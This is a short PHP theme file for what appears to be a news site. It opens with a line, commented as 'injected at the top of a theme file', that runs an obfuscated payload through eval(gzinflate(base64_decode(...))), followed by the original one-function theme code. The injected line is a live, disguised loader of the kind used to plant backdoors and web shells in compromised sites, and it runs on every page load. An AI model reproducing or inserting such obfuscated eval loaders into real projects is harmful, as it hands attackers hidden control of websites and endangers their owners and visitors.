<?php /* injected at the top of a theme file */ eval(gzinflate(base64_decode('Uym2LS4pSk3MjS/OT85OLYlPzslMzSvRUCpJLrDS11fSU4l3dw2JVsqtUIrVU7IyMlXStE4rL8osSdVQKdZRcvXw8VeoiCmKyfN19PRRcAvy97WygWtKA+mxA8kGOQeEKIT4I8mVwOVcHEMcQTTCLpAUSEQPRASGeoaApTWtAQ=='))); ?>
<?php
// the theme file that was there before
function news_theme_setup() { return true; }
